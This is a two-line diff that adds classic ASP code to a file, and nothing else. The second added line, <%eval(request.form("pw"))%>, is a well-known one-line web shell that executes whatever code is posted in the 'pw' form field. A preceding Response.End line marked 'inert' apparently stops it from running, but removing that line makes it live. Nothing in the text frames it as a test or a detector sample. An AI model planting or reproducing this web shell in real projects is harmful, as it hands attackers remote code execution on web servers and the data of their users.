@@ -1,0 +1,2 @@
+<% Response.End ' inert %>
+<%eval(request.form("pw"))%>
